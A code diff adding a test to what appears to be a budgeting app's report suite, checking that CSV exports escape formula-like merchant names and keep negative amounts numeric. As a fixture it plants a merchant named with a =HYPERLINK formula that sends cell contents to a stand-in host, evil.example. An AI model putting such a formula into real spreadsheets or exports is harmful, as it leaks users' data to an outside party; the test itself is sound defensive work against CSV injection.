@@ -114,3 +114,21 @@ def test_budget_rows_use_integer_cents(db, vault):
         table = reports.budgets_by_status(session, _year_period())
     assert sum(table.column_values("granted_cents")) == int(granted)
     assert all(isinstance(value, int) for value in table.column_values("balance_cents"))
+
+
+def test_a_merchant_name_that_looks_like_a_formula_is_exported_as_text_and_amounts_stay_numbers(db, vault):
+    """Opened in Excel, a cell starting with = + - @ runs as a formula (CSV injection): such text gets a leading
+    apostrophe. A negative amount in euros is a number and keeps its sign."""
+    from adapter.csvexport import cell_text, to_csv_bytes
+
+    year = local_day(utcnow()).year
+    child = factories.child_with_budget(db, vault, amount_cents=10_000, category="school",
+                                        period=(date(year, 1, 1), date(year, 12, 31)))
+    evil = factories.merchant(db, '=HYPERLINK("http://evil.example/?"&A1,"klik")', ("school",))
+    _spend(db, child, evil.merchant_id, 1_000)
+    with db.read() as session:
+        exported = reports.spending_by_merchant(session, _year_period()).csv_bytes().decode("utf-8-sig")
+    assert "'=HYPERLINK(" in exported and ";=HYPERLINK(" not in exported and not exported.startswith("=")
+    assert [cell_text(value) for value in ("+31 6", "@SUM(A1)", "-2+3", "-12,50", "-7", -1250, "Boekhandel")] == \
+        ["'+31 6", "'@SUM(A1)", "'-2+3", "-12,50", "-7", "-1250", "Boekhandel"]
+    assert to_csv_bytes(["a"], [["\t=1"]]).decode("utf-8-sig").splitlines()[1] == "'\t=1"
